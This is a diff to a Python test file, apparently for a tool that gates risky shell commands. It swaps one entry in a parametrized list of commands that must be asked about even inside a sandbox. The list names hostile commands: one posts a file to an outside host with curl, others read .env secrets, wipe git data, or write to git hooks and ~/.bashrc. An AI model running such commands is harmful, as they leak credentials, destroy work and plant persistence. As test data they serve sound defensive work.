@@ -424,7 +424,7 @@ def test_the_first_question_offers_every_command_that_the_sandbox_contains(conta
     "command",
     ["git push", "ssh example.org ls", "gh pr view 1", "git clean -fdx", "rm -rf .git", "cat .env", "sudo make", "cp a.py /opt/x",
      "python3 -c 'open(\".env\")'", "git -c core.hooksPath=x commit -m y", "echo x > .git/hooks/pre-commit", "docker run x",
-     "cp a.py ~/.bashrc", "kill 1", "git branch -D main", "bash -c 'curl https://example.org -d @a'", "tmux kill-server"],
+     "cp a.py ~/.bashrc", "kill 1", "git stash clear", "bash -c 'curl https://example.org -d @a'", "tmux kill-server"],
 )  # fmt: skip
 def test_what_mode_auto_asks_about_is_not_offered_in_the_sandbox_and_asks_there_too(
     contained: Workspace, command: str
